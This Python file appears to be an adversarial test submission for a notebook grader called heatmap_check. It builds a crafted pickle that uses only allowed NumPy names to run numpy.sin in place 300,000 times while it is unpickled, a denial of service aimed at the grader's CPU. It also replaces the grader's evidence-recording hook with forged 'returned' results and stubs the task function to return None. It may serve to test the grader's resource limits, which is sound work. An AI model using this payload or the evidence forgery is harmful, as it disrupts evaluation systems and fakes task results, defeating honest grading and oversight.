# Attack (denial of service of the reader): evidence made only of names the reader admits (a NumPy
# array and numpy.sin), which applies sin to the array in place 300,000 times while it is
# unpickled: minutes of the grader's CPU for one call, unless the reader's budget stops it.
import base64
import pickle
import struct

import heatmap_check
import numpy as np
from IPython.display import display


def _costly_pickle(times=300_000):
    array = pickle.dumps(np.zeros(20_000), protocol=3)[2:-1]  # the array, left on the stack
    put, get = (lambda i: b"r" + struct.pack("<I", i)), (lambda i: b"j" + struct.pack("<I", i))
    body = array + put(9000) + b"0" + b"cnumpy\nsin\n" + put(9001) + b"0"
    body += (get(9001) + get(9000) + get(9000) + b"\x86R0") * times  # sin(a, out=a), then drop it
    return b"\x80\x03" + body + b"}."  # ends as an empty dict: no drawing at all


def _costly(function, calls):
    payload = base64.b64encode(_costly_pickle()).decode()
    for call in calls:
        display({heatmap_check.EVIDENCE_MIME: {"call": call["name"], "status": "returned", "returned": "axes",
                                               "exception": None, "pickle": payload, "png": None}}, raw=True)


heatmap_check.record_evidence = _costly


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
